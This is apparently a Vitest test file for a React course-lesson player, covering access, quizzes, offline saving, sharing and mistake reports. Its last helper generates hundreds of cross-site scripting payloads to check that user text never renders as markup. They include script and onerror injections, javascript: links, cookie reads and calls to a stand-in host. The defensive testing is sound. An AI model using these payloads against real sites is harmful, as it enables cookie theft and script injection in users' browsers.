import { act, cleanup, render, screen, waitFor, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { createMemoryRouter, RouterProvider } from "react-router";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import { forgetReads } from "../../lib/data/read.ts";
import type * as Session from "../../lib/session.ts";
import { haveDialogs } from "../../ui/testing/native-dialog.ts";
import { content, course, lessons, openedOf, shownOf } from "./lesson.builders.ts";
import { PlayerPage } from "./player-page.tsx";
import type { Opened, Shown } from "./use-lesson.ts";
import { haveDatabase } from "../../ui/testing/own-database.ts";

const here = vi.hoisted(() => ({
  user: undefined as string | undefined,
  asked: [] as unknown[],
  /** What runs once somebody has signed in and is back. */
  back: new Map<string, (data: unknown) => void>(),
}));
vi.mock(import("../../lib/session.ts"), async (original) => ({
  ...(await original()),
  useSession: () =>
    ({ status: here.user ? "in" : "out", me: here.user ? { user: { id: here.user } } : undefined, failed: false }) as ReturnType<
      typeof Session.useSession
    >,
  userId: () => here.user,
  useSignIn: () => ({ ask: (options: unknown) => here.asked.push(options) }),
  useReturnAction: (kind: string, run: (data: unknown) => void) => void here.back.set(kind, run),
}));
haveDatabase();
vi.stubGlobal(
  "IntersectionObserver",
  class {
    observe = () => undefined;
    disconnect = () => undefined;
  },
);

/** Of a lesson that is no preview, for somebody who is not enrolled. */
const outside = openedOf(1, { content: null, record: null, start: null });

type Answer = () => Response;
let answers: Record<string, Answer>;
let calls: { method: string; path: string; body: unknown }[];
let people = 0;
const reply = (body: object, status = 200) => new Response(JSON.stringify(body), { status });
const refused = (code: string, status: number) => reply({ error: { code, message: code } }, status);
const cut: Answer = () => {
  throw new TypeError("no line");
};

beforeEach(() => {
  people += 1;
  here.user = `asha-${people}`;
  here.asked = [];
  calls = [];
  answers = {};
  vi.stubGlobal("fetch", async (url: string, init: RequestInit) => {
    const path = url.replace("/api", "");
    const method = init.method ?? "GET";
    calls.push({ method, path, body: init.body ? JSON.parse(init.body as string) : undefined });
    const key = Object.keys(answers).find((each) => `${method} ${path}`.startsWith(each));
    return key ? answers[key]!() : refused("not_found", 404);
  });
});
afterEach(() => {
  cleanup();
  forgetReads();
});

function show(shown: Shown): void {
  render(<RouterProvider router={createMemoryRouter([{ path: "*", element: <PlayerPage shown={shown} /> }])} />);
}
const serveLesson = (at: number, opened: Answer | Opened) => {
  answers[`GET /learning/mine/thumbs/lessons/${lessons[at]!.key}`] = typeof opened === "function" ? opened : () => reply(opened);
};

describe("who may open a lesson", () => {
  test("a guest has the whole of a preview, and is told how it counts", async () => {
    here.user = undefined;
    answers["POST /learning/courses/thumbs/lessons/one/start"] = () => reply({ start: "a guest's" });
    show(shownOf(0));
    expect(screen.getByText("Hands stay down.")).toBeTruthy();
    expect(screen.getByRole("link", { name: /The board on paper/ }).getAttribute("href")).toBe("/api/learning/worksheets/sealed");
    expect(screen.getByText(/what you did here counts/)).toBeTruthy();
    await userEvent.click(screen.getByRole("button", { name: "Enrol free" }));
    expect(here.asked).toMatchObject([{ action: { kind: "enrol", data: course.resource_id } }]);
  });

  test("a guest on any other lesson signs in, enrols and is back; the preview is one press away", () => {
    here.user = undefined;
    show(shownOf(1));
    expect(screen.getByRole("heading", { name: "Sign in to open this lesson" })).toBeTruthy();
    expect(screen.getByRole("link", { name: "Watch the free preview" }).getAttribute("href")).toBe("/learn/thumbs/one");
    expect(screen.queryByText("What is 8 + 6?")).toBeNull();
  });

  test("somebody who is not enrolled enrols with one press, and the lesson opens", async () => {
    let isIn = false;
    serveLesson(1, () => reply(isIn ? openedOf(1) : outside));
    answers["POST /learning/enrolments"] = () => {
      isIn = true;
      return reply({ id: "x", webinar_id: course.resource_id, user_id: here.user, active: true });
    };
    show(shownOf(1));
    await userEvent.click(await screen.findByRole("button", { name: "Enrol free" }));
    expect(await screen.findByText("What is 8 + 6?")).toBeTruthy();
  });

  test("a course with a price is not enrolled in by a press", async () => {
    const paid = { ...course, price: 49_900 };
    serveLesson(1, { ...outside, course: paid });
    show({ ...shownOf(1), course: paid });
    expect(await screen.findByRole("link", { name: "See the course" })).toBeTruthy();
    expect(screen.queryByRole("button", { name: "Enrol free" })).toBeNull();
  });

  test("a course that has retired says so, and leads to what one wrote in it", async () => {
    serveLesson(1, () => refused("learning.retired", 410));
    show(shownOf(1));
    expect(await screen.findByRole("heading", { name: "This course has retired" })).toBeTruthy();
  });

  test("a line that is down is said, with one way to try again", async () => {
    serveLesson(1, cut);
    show(shownOf(1));
    const again = await screen.findByRole("button", { name: "Try again" });
    serveLesson(1, openedOf(1));
    await userEvent.click(again);
    expect(await screen.findByText("What is 8 + 6?")).toBeTruthy();
  });
});

describe("a quiz", () => {
  const answered = { question: "q1", option: 0, correct: false, answer: 1, explanation: "Ten and four.", done: true };

  test("shows what was right and why, once the server has the answer", async () => {
    serveLesson(1, openedOf(1));
    answers["POST /learning/answers"] = () => reply(answered);
    show(shownOf(1));
    expect(screen.queryByText("Ten and four.")).toBeNull();
    await userEvent.click(await screen.findByRole("button", { name: /12/ }));
    expect(await screen.findByText("Ten and four.")).toBeTruthy();
    expect(screen.getByText("0 of 1 right")).toBeTruthy();
  });

  test("keeps an answer that finds no line, says so, and sends the same one later", async () => {
    serveLesson(1, openedOf(1));
    answers["POST /learning/answers"] = cut;
    show(shownOf(1));
    await userEvent.click(await screen.findByRole("button", { name: /12/ }));
    expect(await screen.findByText(/Your answer is kept on this device/)).toBeTruthy();
    answers["POST /learning/answers"] = () => reply(answered);
    window.dispatchEvent(new Event("online"));
    expect(await screen.findByText("Ten and four.")).toBeTruthy();
    const sent = calls.filter(({ path }) => path === "/learning/answers").map(({ body }) => (body as { option: number }).option);
    expect(new Set(sent)).toEqual(new Set([0]));
  });
});

test("each request of a lesson is cut off once, and nothing of it is lost", async () => {
  serveLesson(1, openedOf(1));
  answers["POST /learning/answers"] = () =>
    reply({ question: "q1", option: 1, correct: true, answer: 1, explanation: "Ten and four.", done: true });
  answers["PUT /learning/notes/"] = () => reply({});
  const cutOff = new Set<string>();
  const stubbed = globalThis.fetch;
  vi.stubGlobal("fetch", async (url: string, init: RequestInit) => {
    const what = `${init.method} ${url.split("/").slice(0, 4).join("/")}`;
    if (cutOff.has(what)) return stubbed(url, init);
    cutOff.add(what);
    throw new TypeError("no line");
  });
  show(shownOf(1));
  await userEvent.click(await screen.findByRole("button", { name: "Try again" }));
  await userEvent.click(await screen.findByRole("button", { name: /14/ }));
  await userEvent.type(screen.getByLabelText("Note on this lesson"), "Ten and four.");
  await userEvent.click(screen.getByRole("button", { name: "Save note" }));
  await screen.findAllByText(/On this device, not sent yet|kept on this device/);
  for (let tries = 0; tries < 3; tries += 1) {
    window.dispatchEvent(new Event("online"));
    await new Promise((resolve) => setTimeout(resolve, 0));
  }
  expect(await screen.findByText("1 of 1 right")).toBeTruthy();
  await waitFor(() => expect(screen.queryByText("On this device, not sent yet")).toBeNull());
  expect([...cutOff].toSorted()).toEqual(["GET /api/learning/mine", "POST /api/learning/answers", "PUT /api/learning/notes"]);
  expect(calls.filter(({ method }) => method !== "GET").map(({ method }) => method)).toEqual(["POST", "PUT"]);
});

test("the next person on the same page sees nothing of the one before", async () => {
  serveLesson(0, openedOf(0));
  answers["PUT /learning/notes/"] = cut;
  show(shownOf(0));
  await userEvent.type(await screen.findByLabelText(/Note at/), "Only mine.");
  await userEvent.click(screen.getByRole("button", { name: "Save note" }));
  expect(await screen.findByText("On this device, not sent yet")).toBeTruthy();
  cleanup();
  forgetReads();
  here.user = `ravi-${people}`;
  const seen: string[] = [];
  const watcher = new MutationObserver(() => seen.push(document.body.textContent));
  watcher.observe(document.body, { subtree: true, childList: true, characterData: true });
  show(shownOf(0));
  await screen.findByRole("region", { name: "My notes" });
  watcher.disconnect();
  expect([...seen, document.body.textContent].filter((text) => /Only mine|not sent yet|kept on this device/.test(text))).toEqual([]);
});

test("whoever comes back goes on where they were", async () => {
  const scrolled = vi.fn<() => void>();
  Element.prototype.scrollIntoView = scrolled;
  serveLesson(0, openedOf(0, { mine: { done: [], check_passed: false, position: 65, answers: [], task: null, notes: [] } }));
  show(shownOf(0));
  await userEvent.click(await screen.findByRole("button", { name: "Go on at 1:05" }));
  expect(scrolled).toHaveBeenCalled();
  expect(screen.getByLabelText("Note at 1:05")).toBeTruthy();
});

describe("after the last lesson of a course that ends with a certificate", () => {
  const certified = { ...course, has_check: true };
  const done = lessons.map(({ key, seconds }) => ({ lesson: key, counted: seconds, done: true }));
  const at = (lesson: number, check_passed: boolean, all = done) => {
    serveLesson(
      lesson,
      openedOf(lesson, { course: certified, mine: { done: all, check_passed, position: 0, answers: [], task: null, notes: [] } }),
    );
    show(shownOf(lesson, { course: certified }));
    return screen.findByRole("region", { name: "Lesson actions" });
  };
  const page = "/learn/thumbs/certificate";
  const leads = (name: string) => screen.getAllByRole("link", { name }).map((link) => link.getAttribute("href"));

  test("and its check the certificate is one press away; with a lesson left out before it, what is left is", async () => {
    await at(2, true);
    expect(leads("Your certificate")).toEqual([page, page]);
    cleanup();
    forgetReads();
    await at(2, true, done.slice(1));
    expect(leads("See what is left")).toEqual([page, page]);
  });

  test("the check comes first, also for whoever did the last lesson before those around it", async () => {
    expect(within(await at(2, false)).getByRole("link", { name: "Final check" })).toBeTruthy();
    cleanup();
    forgetReads();
    await at(0, false);
    expect(leads("See what is left")).toEqual([page]);
  });
});

describe("what somebody writes", () => {
  test("of a task is there again after the page was left, and goes to the server as it stands", async () => {
    serveLesson(2, openedOf(2));
    show(shownOf(2));
    await userEvent.type(await screen.findByLabelText("What happened?"), "Four waited.");
    cleanup();
    forgetReads();
    answers["PUT /learning/tasks"] = () => reply({ text: "Four waited.", edited_at: "2026-11-18T05:10:00.000Z", done: true });
    show(shownOf(2));
    await waitFor(() => expect(screen.getByLabelText<HTMLTextAreaElement>("What happened?").value).toBe("Four waited."));
    await userEvent.click(screen.getByRole("button", { name: "Keep it" }));
    expect(await screen.findByText("Kept.")).toBeTruthy();
    expect(calls.find(({ method }) => method === "PUT")?.body).toMatchObject({ lesson: "three", text: "Four waited." });
  });

  test("as a note stands in the notebook at once, marked while it is only here", async () => {
    serveLesson(0, openedOf(0));
    answers["PUT /learning/notes/"] = cut;
    show(shownOf(0));
    await userEvent.type(await screen.findByLabelText(/Note at/), "Count to three.");
    await userEvent.click(screen.getByRole("button", { name: "Save note" }));
    const book = screen.getByRole("region", { name: "My notes" });
    expect(await within(book).findByText("Count to three.")).toBeTruthy();
    expect(await within(book).findByText("On this device, not sent yet")).toBeTruthy();
    answers["PUT /learning/notes/"] = () => reply({});
    window.dispatchEvent(new Event("online"));
    await waitFor(() => expect(within(book).queryByText("On this device, not sent yet")).toBeNull());
    expect(within(book).getByText("Count to three.")).toBeTruthy();
  });

  test("is never markup, whatever it is", async () => {
    const hostile = hostileStrings();
    expect(hostile.length).toBeGreaterThanOrEqual(500);
    const notes = hostile.slice(0, 500).map((text, at) => ({
      id: `9b0e7a52-0000-7000-8000-${String(at).padStart(12, "0")}`,
      lesson: "one",
      at,
      text,
      edited_at: "2026-11-18T05:10:00.000Z",
    }));
    const text = hostile.map((words) => ({ is: "paragraph" as const, of: [{ is: "text" as const, text: words }] }));
    serveLesson(
      0,
      openedOf(0, { content: { ...content, text }, mine: { done: [], check_passed: false, position: 0, answers: [], task: null, notes } }),
    );
    show(shownOf(0, { content: { ...content, text } }));
    await screen.findByRole("region", { name: "My notes" });
    expect(document.querySelectorAll("main script, main iframe, main object, main embed, main img, main style")).toHaveLength(0);
    const attributes = [...document.querySelectorAll("main *")].flatMap((element) => [...element.attributes]);
    expect(attributes.filter(({ name }) => name.startsWith("on"))).toEqual([]);
    expect(attributes.filter(({ name, value }) => name === "href" && !/^(\/|#|https:)/.test(value))).toEqual([]);
  });
});

describe("below the lesson", () => {
  const shareId = "9b0e7a52-0000-7000-8000-00000000000a";
  const link = () => screen.findByDisplayValue(/^http/);
  const share = async () => userEvent.click(await screen.findByRole("button", { name: "Share" }));
  beforeEach(haveDialogs);

  test.each([
    [0, "/learn/thumbs/one", /“The first”, a free lesson from the course/],
    [2, "/learning/thumbs", /I am at “The third” in the course “Thumbs, not hands”/],
  ])("lesson %i is shared at %s, under a link of one's own", async (at, path, sentence) => {
    serveLesson(at, openedOf(at));
    answers["POST /share/link"] = () => reply({ share_id: shareId, path: "/learning/thumbs?share=x", message: "Your link is ready." });
    show(shownOf(at));
    await share();
    expect((await link()).getAttribute("value")).toBe(`${location.origin}${path}?share=${shareId}`);
    expect(calls.find((call) => call.path === "/share/link")?.body).toEqual({ kind: "resource", id: course.resource_id });
    expect((await screen.findByRole("dialog", { name: "Share this lesson" })).textContent).toMatch(sentence);
    const message = new URL(screen.getByRole("link", { name: "WhatsApp" }).getAttribute("href")!).searchParams.get("text");
    expect(message).toMatch(sentence);
    expect(message?.endsWith(`${path}?share=${shareId}`)).toBe(true);
  });

  test("a guest shares the plain address of a preview, and signs in before they report a mistake", async () => {
    here.user = undefined;
    show(shownOf(0));
    await share();
    expect((await link()).getAttribute("value")).toBe(`${location.origin}/learn/thumbs/one`);
    await userEvent.click(await screen.findByRole("button", { name: "Close" }));
    await userEvent.click(screen.getByRole("button", { name: "Report a mistake in this lesson" }));
    expect(here.asked).toMatchObject([{ action: { kind: "report-mistake", data: "one" } }]);
    expect(screen.queryByLabelText("What did you find?")).toBeNull();
  });

  test("whoever signed in for it is back with the form open, at this lesson and no other", async () => {
    serveLesson(0, openedOf(0));
    show(shownOf(0));
    await screen.findByRole("region", { name: "My notes" });
    act(() => here.back.get("report-mistake")!("two"));
    expect(screen.queryByLabelText("What did you find?")).toBeNull();
    act(() => here.back.get("report-mistake")!("one"));
    expect(await screen.findByLabelText("What did you find?")).toBeTruthy();
  });

  test("there is neither where the lesson is closed to whoever looks", async () => {
    serveLesson(1, outside);
    show(shownOf(1));
    await screen.findByRole("button", { name: "Enrol free" });
    expect(screen.queryByRole("button", { name: /Share|Report/ })).toBeNull();
  });

  test("a mistake is reported with the second of a video that one was at", async () => {
    serveLesson(0, openedOf(0, { mine: { done: [], check_passed: false, position: 65, answers: [], task: null, notes: [] } }));
    answers["POST /learning/courses/thumbs/lessons/one/reports"] = () => reply({ id: shareId });
    show(shownOf(0));
    await screen.findByRole("region", { name: "My notes" });
    await userEvent.click(screen.getByRole("button", { name: "Report a mistake in this lesson" }));
    await userEvent.click(await screen.findByRole("radio", { name: "Something does not work" }));
    await userEvent.type(screen.getByLabelText("What did you find?"), "The slides stop there.");
    await userEvent.click(screen.getByRole("button", { name: "Send report" }));
    expect(await screen.findByText("Thank you. Whoever wrote this lesson reads it.")).toBeTruthy();
    expect(calls.find(({ path }) => path.endsWith("/reports"))?.body).toMatchObject({
      what: "broken",
      text: "The slides stop there.",
      at: 65,
    });
  });
});

/** What people type who want a page to run it: tags, attributes, addresses and encodings in every combination. */
function hostileStrings(): string[] {
  const runs = ["alert(1)", "fetch('//x.example')", "document.cookie", "import('//x.example')", "top.location='//x.example'"];
  const frames = [
    (run: string) => `<script>${run}</script>`,
    (run: string) => `<img src=x onerror=${run}>`,
    (run: string) => `<svg/onload=${run}>`,
    (run: string) => `<a href="javascript:${run}">x</a>`,
    (run: string) => `[x](javascript:${run})`,
    (run: string) => `"><iframe srcdoc="<script>${run}</script>">`,
    (run: string) => `<style>@import '//x.example'; a{b:expression(${run})}</style>`,
    (run: string) => `<math><mtext><img src=x onerror=${run}></mtext></math>`,
    (run: string) => `{{constructor.constructor('${run}')()}}`,
    (run: string) => `<template><script>${run}</script></template>`,
  ];
  const dresses = [
    (text: string) => text,
    (text: string) => text.toUpperCase(),
    (text: string) => text.replaceAll("<", "&lt;"),
    (text: string) => text.replaceAll("<", "\u0000<"),
    (text: string) => `\u202e${text}`,
    (text: string) => encodeURIComponent(text),
    (text: string) => text.replaceAll("a", "\u0430"),
    (text: string) => `]]>${text}<!--`,
    (text: string) => text.replaceAll(" ", "\n"),
    (text: string) => `${text}\ud83d`,
  ];
  return frames.flatMap((frame) => dresses.flatMap((dress) => runs.map((run) => dress(frame(run)))));
}
